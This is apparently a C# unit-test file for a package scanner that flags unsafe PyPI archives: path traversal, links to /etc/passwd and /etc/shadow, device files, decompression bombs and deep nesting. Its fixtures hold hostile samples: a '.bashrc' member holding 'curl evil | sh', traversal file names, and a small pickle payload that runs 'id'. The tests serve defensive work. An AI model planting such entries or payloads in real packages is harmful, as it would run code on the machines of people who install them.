using System.Formats.Tar;
using System.IO.Compression;
using Gatehouse.Configuration;
using Gatehouse.Pipeline;
using Gatehouse.Policy;
using Gatehouse.PyPI;
using Gatehouse.Scans;
using Gatehouse.Scans.Archives;
using static Gatehouse.Core.Tests.Scans.Archives.TestArchives;
using Rules = Gatehouse.Scans.Archives.ArchiveSafety.Rules;

namespace Gatehouse.Core.Tests.Scans.Archives;

public class ArchiveSafetyTests
{
    /// <summary>
    /// The archive check on the content, then what a package file's name adds when the policy judges it for PyPI (a
    /// package must be an archive, of the kind its name promises).
    /// </summary>
    private static async Task<IReadOnlyList<Finding>> InspectAsync(Stream archive, string fileName, ArchiveLimits? limits = null)
    {
        var (format, findings) = await new ArchiveSafety(limits ?? new ArchiveLimits()).InspectAsync(archive, CancellationToken.None);
        var facts = new ContentFacts(new string('0', 64), archive.Length, ContentFacts.CurrentVersion, format, false, "data", findings, [], "quarantine", DateTimeOffset.UnixEpoch);
        var reference = new ArtifactReference(PyPIRemote.Pypi, PyPIRemote.Key("demo", fileName), "demo 1.0", fileName, facts.Sha256, facts.Size, "https://files.example/x", null);
        return DeclarativePolicy.Default(TimeProvider.System).Decide(facts, PyPIRemote.Context(reference)).Considered;
    }

    private static Finding SingleFinding(IReadOnlyList<Finding> findings, string rule) => Assert.Single(findings, f => f.Rule == rule);

    [Fact]
    public async Task A_clean_wheel_has_no_findings()
    {
        Assert.Empty(await InspectAsync(Wheel(), "demo-1.0-py3-none-any.whl"));
    }

    [Fact]
    public async Task A_clean_sdist_has_no_findings()
    {
        Assert.Empty(await InspectAsync(Sdist(), "demo-1.0.tar.gz"));
    }

    [Fact]
    public async Task A_clean_uncompressed_tar_has_no_findings()
    {
        var tar = Tar(t => t.AddFile("demo-1.0/setup.py", Utf8("from setuptools import setup\n")));
        Assert.Empty(await InspectAsync(tar, "demo-1.0.tar"));
    }

    [Theory]
    [InlineData("../evil.py")]
    [InlineData("demo/../../evil.py")]
    [InlineData("/etc/x")]
    [InlineData("C:\\x")]
    [InlineData("C:/x")]
    [InlineData("..\\evil.py")]
    [InlineData("\\evil.py")]
    public async Task A_wheel_member_that_escapes_the_install_directory_is_dangerous(string name)
    {
        var findings = await InspectAsync(Wheel((name, "print('pwned')\n")), "demo-1.0-py3-none-any.whl");
        var finding = SingleFinding(findings, Rules.PathTraversal);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal(name, finding.Path);
        Assert.Contains(name, finding.Message);
    }

    [Fact]
    public async Task A_tar_member_that_escapes_the_install_directory_is_dangerous()
    {
        var findings = await InspectAsync(Sdist(("demo-1.0/../../.bashrc", "curl evil | sh\n")), "demo-1.0.tar.gz");
        Assert.Equal(Severity.Dangerous, SingleFinding(findings, Rules.PathTraversal).Severity);
    }

    [Theory]
    [InlineData("demo/..data.py")]
    [InlineData("demo/x..y/z.py")]
    [InlineData("demo/./core2.py")]
    public async Task Dots_inside_a_name_are_not_traversal(string name)
    {
        var findings = await InspectAsync(Wheel((name, "x = 1\n")), "demo-1.0-py3-none-any.whl");
        Assert.DoesNotContain(findings, f => f.Rule == Rules.PathTraversal);
    }

    [Fact]
    public async Task A_zip_member_with_a_unix_symlink_mode_is_a_dangerous_link()
    {
        var wheel = Zip(zip =>
        {
            foreach (var (path, content) in CleanWheelMembers)
            {
                zip.AddFile(path, Utf8(content));
            }
            zip.AddSymlink("demo/data", "/etc");
        });
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl"), Rules.Link);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("demo/data", finding.Path);
    }

    [Fact]
    public async Task A_zip_member_with_a_regular_unix_mode_is_a_plain_file()
    {
        var wheel = Zip(zip =>
        {
            var entry = zip.CreateEntry("demo/run.sh");
            entry.ExternalAttributes = unchecked((int)(0x81EDu << 16)); // S_IFREG | 0755
            using var content = entry.Open();
            content.Write(Utf8("#!/bin/sh\n"));
        });
        Assert.Empty(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl"));
    }

    [Theory]
    // A symlink's target is a path from the link's own directory.
    [InlineData(TarEntryType.SymbolicLink, "demo-1.0/passwd", "../../etc/passwd", Severity.Dangerous)] // out of the archive
    [InlineData(TarEntryType.SymbolicLink, "demo-1.0/deep/down/link", "/etc/passwd", Severity.Dangerous)] // to an absolute path
    [InlineData(TarEntryType.SymbolicLink, "demo-1.0/docs/README.md", "../README.md", Severity.Suspicious)] // relative, and stays inside
    // "./link" sits at the archive root, so "../x" is outside it; the "." segment is not a directory level.
    [InlineData(TarEntryType.SymbolicLink, "./link", "../outside", Severity.Dangerous)]
    // A hard link's target is a path from the archive root, not from the link's own directory (tarfile, GNU tar).
    [InlineData(TarEntryType.HardLink, "demo-1.0/demo/passwd", "../../etc/passwd", Severity.Dangerous)] // climbs out of the archive root
    [InlineData(TarEntryType.HardLink, "demo-1.0/setup2.py", "demo-1.0/setup.py", Severity.Suspicious)] // to another member
    public async Task A_tar_link_is_dangerous_when_its_target_leaves_the_archive_and_suspicious_otherwise(
        TarEntryType type, string path, string target, Severity expected)
    {
        var sdist = TarGz(t =>
        {
            t.AddFile("demo-1.0/setup.py", Utf8("from setuptools import setup\n"));
            t.AddFile("demo-1.0/README.md", Utf8("# demo\n"));
            t.AddLink(type, path, target);
        });
        var finding = SingleFinding(await InspectAsync(sdist, "demo-1.0.tar.gz"), Rules.Link);
        Assert.Equal(expected, finding.Severity);
        Assert.Equal(path, finding.Path);
        Assert.Contains(target, finding.Message);
    }

    [Theory]
    [InlineData(TarEntryType.Fifo)]
    [InlineData(TarEntryType.CharacterDevice)]
    [InlineData(TarEntryType.BlockDevice)]
    public async Task A_tar_device_or_fifo_is_a_dangerous_special_file(TarEntryType type)
    {
        var sdist = TarGz(t =>
        {
            t.AddFile("demo-1.0/setup.py", Utf8("from setuptools import setup\n"));
            t.AddSpecial(type, "demo-1.0/dev");
        });
        var finding = SingleFinding(await InspectAsync(sdist, "demo-1.0.tar.gz"), Rules.SpecialFile);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("demo-1.0/dev", finding.Path);
    }

    [Fact]
    public async Task A_zip_member_with_a_fifo_mode_is_a_special_file()
    {
        var wheel = Zip(zip =>
        {
            var entry = zip.CreateEntry("demo/pipe");
            entry.ExternalAttributes = unchecked((int)(0x11A4u << 16)); // S_IFIFO | 0644
        });
        Assert.Equal(Severity.Dangerous, SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl"), Rules.SpecialFile).Severity);
    }

    [Fact]
    public async Task A_highly_compressed_member_is_a_bomb()
    {
        var limits = new ArchiveLimits { MaxCompressionRatio = 100, RatioThresholdBytes = 1024 * 1024 };
        var wheel = Zip(zip =>
        {
            zip.AddFile("demo/__init__.py", Utf8(""));
            zip.AddFile("demo/zeros.bin", new byte[8 * 1024 * 1024], CompressionLevel.Optimal);
        });
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl", limits), Rules.Bomb);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("demo/zeros.bin", finding.Path);
    }

    [Fact]
    public async Task A_small_highly_compressible_member_below_the_ratio_threshold_is_fine()
    {
        var limits = new ArchiveLimits { MaxCompressionRatio = 100, RatioThresholdBytes = 1024 * 1024 };
        var wheel = Zip(zip => zip.AddFile("demo/zeros.bin", new byte[512 * 1024], CompressionLevel.Optimal));
        Assert.Empty(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl", limits));
    }

    [Fact]
    public async Task Members_that_together_expand_past_the_total_cap_are_a_bomb()
    {
        var limits = new ArchiveLimits { MaxTotalUncompressedBytes = 1000 };
        var wheel = Zip(zip =>
        {
            zip.AddFile("demo/a.bin", Incompressible(600, seed: 1));
            zip.AddFile("demo/b.bin", Incompressible(600, seed: 2));
        });
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl", limits), Rules.Bomb);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("demo/b.bin", finding.Path);
    }

    [Fact]
    public async Task A_member_that_expands_past_the_entry_cap_is_a_bomb()
    {
        var limits = new ArchiveLimits { MaxEntryUncompressedBytes = 1000 };
        var sdist = TarGz(t => t.AddFile("demo-1.0/big.bin", Incompressible(1001)));
        var finding = SingleFinding(await InspectAsync(sdist, "demo-1.0.tar.gz", limits), Rules.Bomb);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("demo-1.0/big.bin", finding.Path);
    }

    [Fact]
    public async Task A_member_stored_without_compression_cannot_expand_and_is_no_bomb_however_large()
    {
        // A checkpoint's tensors are stored members of gigabytes; the limits are for what decompression produces.
        var limits = new ArchiveLimits { MaxEntryUncompressedBytes = 1000, MaxTotalUncompressedBytes = 1000 };
        var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("archive/data/0", CompressionLevel.NoCompression).Open();
            entry.Write(Incompressible(5000));
        }
        stream.Position = 0;
        var (format, findings) = await new ArchiveSafety(limits).InspectAsync(stream, CancellationToken.None);
        Assert.Equal(ArchiveFormat.Zip, format);
        Assert.Empty(findings);
    }

    [Fact]
    public async Task A_plain_tar_holds_only_its_own_bytes_and_spends_no_expansion_budget()
    {
        var limits = new ArchiveLimits { MaxEntryUncompressedBytes = 1000, MaxTotalUncompressedBytes = 1000 };
        var tar = new MemoryStream();
        using (var writer = new TarWriter(tar, TarEntryFormat.Pax, leaveOpen: true))
        {
            writer.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "shard-000/sample.bin") { DataStream = new MemoryStream(Incompressible(5000)) });
        }
        tar.Position = 0;
        Assert.Empty((await new ArchiveSafety(limits).InspectAsync(tar, CancellationToken.None)).Findings);
        // The same bytes gzip'd do expand, and the same limits catch them.
        var compressed = TarGz(t => t.AddFile("shard-000/sample.bin", new byte[5000]));
        Assert.Contains((await new ArchiveSafety(limits).InspectAsync(compressed, CancellationToken.None)).Findings, f => f.Rule == Rules.Bomb);
    }

    [Fact]
    public async Task A_gzip_file_that_holds_no_tar_is_no_archive()
    {
        var gzipped = new MemoryStream();
        using (var gzip = new GZipStream(gzipped, CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write("cos\nsystem\n(S'id'\ntR."u8);
        }
        gzipped.Position = 0;
        var (format, findings) = await new ArchiveSafety(new ArchiveLimits()).InspectAsync(gzipped, CancellationToken.None);
        Assert.Equal(ArchiveFormat.Unknown, format);
        Assert.Empty(findings);
    }

    [Fact]
    public async Task More_members_than_the_entry_count_cap_is_a_bomb()
    {
        var limits = new ArchiveLimits { MaxEntries = 3 };
        var wheel = Zip(("a.py", ""), ("b.py", ""), ("c.py", ""), ("d.py", ""));
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl", limits), Rules.Bomb);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("d.py", finding.Path);
    }

    [Fact]
    public async Task Exactly_as_many_members_as_the_entry_count_cap_is_fine()
    {
        var limits = new ArchiveLimits { MaxEntries = 3 };
        Assert.Empty(await InspectAsync(Zip(("a.py", ""), ("b.py", ""), ("c.py", "")), "demo-1.0-py3-none-any.whl", limits));
    }

    private static byte[] Nest(int levels, byte[] innermost)
    {
        var bytes = innermost;
        for (var i = levels; i >= 1; i--)
        {
            var inner = bytes;
            var name = $"level{i}.zip";
            bytes = ZipBytes(zip => zip.AddFile(name, inner));
        }
        return bytes;
    }

    [Fact]
    public async Task Zips_nested_beyond_the_depth_limit_are_reported()
    {
        // wheel ▸ level1.zip ▸ level2.zip ▸ level3.zip: level3.zip would be opened at depth 3, past the limit of 2.
        var limits = new ArchiveLimits { MaxNestingDepth = 2 };
        var innermost = ZipBytes(zip => zip.AddFile("x.py", Utf8("x = 1\n")));
        var wheel = new MemoryStream(Nest(3, innermost));
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl", limits), Rules.NestingDepth);
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal("level1.zip!/level2.zip!/level3.zip", finding.Path);
    }

    [Fact]
    public async Task Zips_nested_up_to_the_depth_limit_are_fine()
    {
        var limits = new ArchiveLimits { MaxNestingDepth = 3 };
        var innermost = ZipBytes(zip => zip.AddFile("x.py", Utf8("x = 1\n")));
        Assert.Empty(await InspectAsync(new MemoryStream(Nest(3, innermost)), "demo-1.0-py3-none-any.whl", limits));
    }

    [Fact]
    public async Task A_traversal_name_inside_a_nested_zip_is_found_with_its_nested_path()
    {
        var outer = ZipBytes(zip => zip.AddFile("../evil.py", Utf8("print('pwned')\n")));
        var wheel = Zip(zip =>
        {
            zip.AddFile("demo/__init__.py", Utf8(""));
            zip.AddFile("demo/vendor/outer.zip", outer);
        });
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl"), Rules.PathTraversal);
        Assert.Equal(Severity.Dangerous, finding.Severity);
        Assert.Equal("demo/vendor/outer.zip!/../evil.py", finding.Path);
    }

    [Fact]
    public async Task A_symlink_inside_a_tar_gz_inside_a_wheel_is_found()
    {
        using var inner = TarGz(t => t.AddLink(TarEntryType.SymbolicLink, "pkg/link", "/etc/shadow"));
        var wheel = Zip(zip => zip.AddFile("demo/data/bundle.tar.gz", inner.ToArray()));
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl"), Rules.Link);
        Assert.Equal("demo/data/bundle.tar.gz!/pkg/link", finding.Path);
    }

    [Fact]
    public async Task Nested_content_counts_against_the_same_size_budget()
    {
        var limits = new ArchiveLimits { MaxTotalUncompressedBytes = 5000 };
        var inner = ZipBytes(zip => zip.AddFile("big.bin", Incompressible(4000)));
        var wheel = Zip(zip => zip.AddFile("demo/inner.zip", inner));
        Assert.Contains(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl", limits), f => f.Rule == Rules.Bomb);
    }

    [Fact]
    public async Task Two_members_with_one_name_are_reported()
    {
        var wheel = Zip(("demo/__init__.py", "x = 1\n"), ("demo/__init__.py", "import os\n"));
        var finding = SingleFinding(await InspectAsync(wheel, "demo-1.0-py3-none-any.whl"), Rules.DuplicateName);
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal("demo/__init__.py", finding.Path);
    }

    [Fact]
    public async Task A_repeated_directory_entry_is_not_a_duplicate()
    {
        var sdist = TarGz(t =>
        {
            t.AddDirectory("demo-1.0/");
            t.AddDirectory("demo-1.0/");
            t.AddFile("demo-1.0/setup.py", Utf8(""));
        });
        Assert.Empty(await InspectAsync(sdist, "demo-1.0.tar.gz"));
    }

    [Fact]
    public async Task Garbage_named_like_a_wheel_is_unreadable()
    {
        var findings = await InspectAsync(new MemoryStream(Incompressible(4096)), "demo-1.0-py3-none-any.whl");
        Assert.Equal(Severity.Suspicious, SingleFinding(findings, Rules.Unreadable).Severity);
    }

    [Fact]
    public async Task An_empty_file_is_unreadable()
    {
        Assert.Contains(await InspectAsync(new MemoryStream(), "demo-1.0.tar.gz"), f => f.Rule == Rules.Unreadable);
    }

    [Fact]
    public async Task A_tar_gz_named_like_a_wheel_is_a_format_mismatch()
    {
        var findings = await InspectAsync(Sdist(), "demo-1.0-py3-none-any.whl");
        Assert.Equal(Severity.Suspicious, SingleFinding(findings, Rules.FormatMismatch).Severity);
    }

    [Fact]
    public async Task A_zip_named_like_a_tar_gz_is_a_format_mismatch()
    {
        Assert.Contains(await InspectAsync(Wheel(), "demo-1.0.tar.gz"), f => f.Rule == Rules.FormatMismatch);
    }

    [Fact]
    public async Task A_mismatched_archive_is_still_inspected()
    {
        var findings = await InspectAsync(Sdist(("demo-1.0/../../evil.py", "")), "demo-1.0-py3-none-any.whl");
        Assert.Contains(findings, f => f.Rule == Rules.FormatMismatch);
        Assert.Contains(findings, f => f.Rule == Rules.PathTraversal);
    }

    [Fact]
    public async Task A_truncated_zip_is_a_finding_not_an_exception()
    {
        var whole = Wheel().ToArray();
        var truncated = new MemoryStream(whole[..(whole.Length * 2 / 3)]);
        var finding = SingleFinding(await InspectAsync(truncated, "demo-1.0-py3-none-any.whl"), Rules.Unreadable);
        Assert.Equal(Severity.Suspicious, finding.Severity);
    }

    [Fact]
    public async Task A_truncated_tar_gz_is_a_finding_not_an_exception()
    {
        var whole = TarGz(t => t.AddFile("demo-1.0/data.bin", Incompressible(20_000))).ToArray();
        var truncated = new MemoryStream(whole[..(whole.Length / 2)]);
        Assert.Contains(await InspectAsync(truncated, "demo-1.0.tar.gz"), f => f.Rule == Rules.Unreadable);
    }

    [Fact]
    public async Task A_zip_truncated_anywhere_is_a_finding_not_an_exception()
    {
        var whole = Wheel().ToArray();
        for (var length = 0; length < whole.Length; length += 7)
        {
            var findings = await InspectAsync(new MemoryStream(whole[..length]), "demo-1.0-py3-none-any.whl");
            Assert.True(findings.Any(f => f.Rule == Rules.Unreadable), $"no finding for the first {length} of {whole.Length} bytes");
        }
    }

    [Fact]
    public async Task A_tar_gz_truncated_anywhere_never_throws()
    {
        var whole = Sdist().ToArray();
        for (var length = 0; length < whole.Length; length += 3)
        {
            var exception = await Record.ExceptionAsync(() => InspectAsync(new MemoryStream(whole[..length]), "demo-1.0.tar.gz"));
            Assert.True(exception is null, $"the first {length} of {whole.Length} bytes threw {exception}");
        }
    }

    [Fact]
    public async Task A_corrupted_byte_anywhere_in_a_wheel_never_throws()
    {
        var whole = Wheel().ToArray();
        for (var i = 0; i < whole.Length; i++)
        {
            var corrupted = (byte[])whole.Clone();
            corrupted[i] ^= 0xA5;
            var exception = await Record.ExceptionAsync(() => InspectAsync(new MemoryStream(corrupted), "demo-1.0-py3-none-any.whl"));
            Assert.True(exception is null, $"flipping byte {i} of {whole.Length} threw {exception}");
        }
    }

    [Fact]
    public async Task A_corrupted_byte_anywhere_in_an_uncompressed_tar_never_throws()
    {
        var whole = Tar(t =>
        {
            t.AddDirectory("demo-1.0/");
            t.AddFile("demo-1.0/setup.py", Utf8("from setuptools import setup\n"));
            t.AddLink(TarEntryType.SymbolicLink, "demo-1.0/link", "setup.py");
        }).ToArray();
        for (var i = 0; i < whole.Length; i += 5)
        {
            var corrupted = (byte[])whole.Clone();
            corrupted[i] ^= 0xA5;
            var exception = await Record.ExceptionAsync(() => InspectAsync(new MemoryStream(corrupted), "demo-1.0.tar"));
            Assert.True(exception is null, $"flipping byte {i} of {whole.Length} threw {exception}");
        }
    }
}
